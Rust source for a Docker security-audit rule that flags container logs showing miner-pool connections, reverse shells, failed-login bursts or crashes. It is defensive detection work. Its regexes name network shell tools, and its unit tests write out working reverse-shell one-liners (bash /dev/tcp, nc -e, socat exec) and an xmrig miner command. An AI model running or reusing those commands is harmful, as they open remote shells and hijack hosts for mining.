//! LOG004 suspicious-log-lines: the tail of a container's log can show what `docker top` no longer
//! does: a miner that was started and connected to its pool, a reverse-shell one-liner that was
//! run, brute-force login attempts, or a service that keeps crashing.
//!
//! Lines were secret-masked at collection; samples are masked again before they are quoted.

use std::sync::LazyLock;

use dockaudit_snapshot::redact::redact_text;
use dockaudit_snapshot::Fact;
use regex::Regex;

use crate::prelude::*;

/// The rule.
pub const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "LOG004",
        name: "suspicious-log-lines",
        title: "Container log shows signs of compromise or failure",
        rationale: "Mining-pool addresses and reverse-shell commands in a container's output are direct signs of compromise; bursts of failed logins show it is being brute-forced, and panics or out-of-memory crashes show it is failing (or being made to fail).",
        remediation: "Read the log (`docker logs --tail 500 NAME`); for compromise signs, isolate the container (`docker network disconnect`, `docker stop`), keep evidence (`docker export`, `docker inspect`), rebuild from a trusted image and rotate its credentials; for failed logins, stop publishing the service to every interface (`-p 127.0.0.1:PORT:PORT`; compose `ports: [\"127.0.0.1:PORT:PORT\"]`) and add rate limiting; ship logs off the host so they survive the container (`--log-driver fluentd`/`journald`; daemon.json `\"log-driver\"`).",
        category: Category::Logging,
        severity: Severity::High,
        cis: &[],
        cis_v1_6: &[],
        references: &[
            "https://docs.docker.com/reference/cli/docker/container/logs/",
            "https://docs.docker.com/engine/logging/configure/",
            "https://attack.mitre.org/techniques/T1496/",
            "https://cwe.mitre.org/data/definitions/307.html",
        ],
    },
    check,
};

/// Longest sample line quoted.
const MAX_SAMPLE_CHARS: usize = 160;

/// Failed logins below this count are background noise.
const FAILED_LOGINS_FLAGGED: usize = 5;

/// A kind of suspicious line.
struct Pattern {
    /// Stable name used in evidence.
    kind: &'static str,
    /// How the message names it.
    label: &'static str,
    /// Whether it is a sign of compromise (High) rather than of trouble (Medium).
    compromise: bool,
    /// Lines of this kind.
    regex: Regex,
}

static PATTERNS: LazyLock<Vec<Pattern>> = LazyLock::new(|| {
    [
        (
            "miner-pool",
            "miner pool",
            true,
            r"(?i)\bstratum2?\+(?:tcp|ssl|tls)://|\bxmrig\b|\b(?:minexmr\.com|supportxmr\.com|nanopool\.org|moneroocean\.stream|hashvault\.pro|2miners\.com|f2pool\.com|c3pool\.com|xmrpool\.eu|nicehash\.com|herominers\.com|ethermine\.org|minergate\.com|unmineable\.com)\b",
        ),
        (
            "reverse-shell",
            "reverse shell",
            true,
            r"(?i)\b(?:nc|ncat|netcat)\s+(?:[^|;&]*\s)?(?:-e|-c|--exec|--sh-exec)\s|\bsocat\b[^|;]*\b(?:exec|system):|\b(?:ba)?sh\s+-i\s*[<>]&|/dev/(?:tcp|udp)/[^\s/]+/\d+.*(?:0>&1|>&|<&)|(?:>&|<&)\s*/dev/(?:tcp|udp)/",
        ),
        (
            "failed-login",
            "failed logins",
            false,
            r"(?i)failed password|authentication failure|invalid user|password authentication failed|access denied for user|login failed|failed login",
        ),
        (
            "crash",
            "panics or crashes",
            false,
            r"(?i)\bpanic:|Traceback \(most recent call last\)|segfault|segmentation fault|out of memory|\bOOMKilled\b|OutOfMemoryError|core dumped",
        ),
    ]
    .into_iter()
    .map(|(kind, label, compromise, pattern)| Pattern {
        kind,
        label,
        compromise,
        regex: Regex::new(pattern).expect("static pattern"),
    })
    .collect()
});

fn check(input: &AuditInput, checks: &mut Checks) {
    // Without log tails nothing can be judged: that is a skip, not a clean bill of health.
    if !input.snapshot.settings.logs {
        checks.skip("container logs were not collected (dockaudit ran with --no-logs)");
        return;
    }
    checks.each_container(input, |c| match &c.logs {
        None => Verdict::NotApplicable,
        Some(Fact::Missing(why)) => Verdict::Skip(format!("logs not collected: {why}")),
        Some(Fact::Value(tail)) => judge(tail.lines.iter().map(String::as_str))
            .map_or(Verdict::Pass, |judged| judged.into_verdict(tail.truncated)),
    });
}

/// One kind found: how many lines, and the first one.
struct Hit {
    pattern: &'static Pattern,
    count: usize,
    sample: String,
}

/// The verdict for a log tail, or `None` when nothing suspicious is in it.
fn judge<'a>(lines: impl Iterator<Item = &'a str>) -> Option<Judged> {
    let mut hits: Vec<Hit> = Vec::new();
    let mut scanned = 0usize;
    for line in lines {
        scanned += 1;
        for pattern in PATTERNS.iter() {
            if !pattern.regex.is_match(line) {
                continue;
            }
            match hits.iter_mut().find(|h| h.pattern.kind == pattern.kind) {
                Some(hit) => hit.count += 1,
                None => hits.push(Hit {
                    pattern,
                    count: 1,
                    sample: facts::shorten(&redact_text(line).0, MAX_SAMPLE_CHARS),
                }),
            }
        }
    }
    hits.retain(|h| h.pattern.kind != "failed-login" || h.count >= FAILED_LOGINS_FLAGGED);
    if hits.is_empty() {
        return None;
    }
    // Patterns order: compromise signs first.
    hits.sort_by_key(|h| {
        PATTERNS
            .iter()
            .position(|p| p.kind == h.pattern.kind)
            .unwrap_or(usize::MAX)
    });
    let listed: Vec<String> = hits
        .iter()
        .map(|h| {
            format!(
                "{} ({} {})",
                h.pattern.label,
                h.count,
                if h.count == 1 { "line" } else { "lines" }
            )
        })
        .collect();
    let compromise = hits.iter().any(|h| h.pattern.compromise);
    let patterns: Vec<_> = hits
        .iter()
        .map(|h| json!({"kind": h.pattern.kind, "count": h.count, "sample": h.sample}))
        .collect();
    Some(Judged {
        message: format!("last {scanned} log lines show {}", listed.join(", ")),
        evidence: json!({"patterns": patterns, "lines_scanned": scanned}),
        compromise,
    })
}

/// What a log tail shows.
struct Judged {
    message: String,
    evidence: serde_json::Value,
    compromise: bool,
}

impl Judged {
    /// The failure; `truncated` says whether the collected tail was cut by its size bound.
    fn into_verdict(mut self, truncated: bool) -> Verdict {
        if let Some(map) = self.evidence.as_object_mut() {
            map.insert("truncated".to_string(), json!(truncated));
        }
        let verdict = Verdict::fail(self.message).with_evidence(self.evidence);
        if self.compromise {
            verdict
        } else {
            verdict.with_severity(Severity::Medium)
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_snapshot_without_logs_skips_instead_of_passing() {
        let snapshot = dockaudit_snapshot::Snapshot::default();
        let input = AuditInput::new(&snapshot, &crate::TargetFilter::default());
        let mut checks = Checks::default();
        check(&input, &mut checks);
        assert!(checks.rule_skip().is_some_and(|r| r.contains("--no-logs")));
        assert!(checks.passed().is_empty() && checks.failures().is_empty());
    }

    use super::*;

    fn kinds(line: &str) -> Vec<&'static str> {
        PATTERNS
            .iter()
            .filter(|p| p.regex.is_match(line))
            .map(|p| p.kind)
            .collect()
    }

    #[test]
    fn lines_are_classified() {
        assert_eq!(
            kinds("connecting to stratum+tcp://pool.example.com:3333"),
            ["miner-pool"]
        );
        assert_eq!(
            kinds("[2024] net use pool pool.supportxmr.com:443"),
            ["miner-pool"]
        );
        assert_eq!(
            kinds("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            ["reverse-shell"]
        );
        assert_eq!(kinds("running nc -l -p 4444 -e /bin/sh"), ["reverse-shell"]);
        assert_eq!(kinds("socat tcp:1.2.3.4:9 exec:/bin/sh"), ["reverse-shell"]);
        assert_eq!(
            kinds("Failed password for root from 10.0.0.9 port 22 ssh2"),
            ["failed-login"]
        );
        assert_eq!(
            kinds("FATAL:  password authentication failed for user \"postgres\""),
            ["failed-login"]
        );
        assert_eq!(
            kinds("panic: runtime error: invalid memory address or nil pointer dereference"),
            ["crash"]
        );
        assert_eq!(kinds("Traceback (most recent call last):"), ["crash"]);
        for quiet in [
            "GET /health 200",
            "wait-for-it: /dev/tcp/db/5432: Connection refused",
            "sync -e done",
            "login password=pl****55",
            "stratum is a word",
        ] {
            assert!(kinds(quiet).is_empty(), "{quiet}");
        }
    }

    #[test]
    fn counts_thresholds_and_severity() {
        let five_fails = vec!["Invalid user admin from 10.0.0.9"; 4];
        assert!(judge(five_fails.into_iter()).is_none());

        let mut lines = vec!["Failed password for root from 10.0.0.9 port 22 ssh2"; 6];
        lines.push("panic: runtime error: invalid memory address");
        let judged = judge(lines.iter().copied()).expect("suspicious");
        assert_eq!(
            judged.message,
            "last 7 log lines show failed logins (6 lines), panics or crashes (1 line)"
        );
        assert!(!judged.compromise);
        let Verdict::Fail { severity, .. } = judged.into_verdict(false) else {
            panic!("expected a failure");
        };
        assert_eq!(severity, Some(Severity::Medium));

        lines.insert(0, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        let judged = judge(lines.iter().copied()).expect("suspicious");
        assert!(judged.compromise);
        assert_eq!(judged.evidence["patterns"][0]["kind"], "reverse-shell");
        assert_eq!(judged.evidence["patterns"][1]["count"], 6);
    }

    #[test]
    fn samples_are_masked_and_shortened() {
        let long = format!(
            "xmrig --url stratum+tcp://pool:3333 --pass=hunter2hunter2hunter2 {}",
            "y".repeat(300)
        );
        let judged = judge(std::iter::once(long.as_str())).expect("suspicious");
        let sample = judged.evidence["patterns"][0]["sample"]
            .as_str()
            .unwrap_or_default();
        assert!(!sample.contains("hunter2hunter2"), "{sample}");
        assert_eq!(sample.chars().count(), MAX_SAMPLE_CHARS);
    }
}
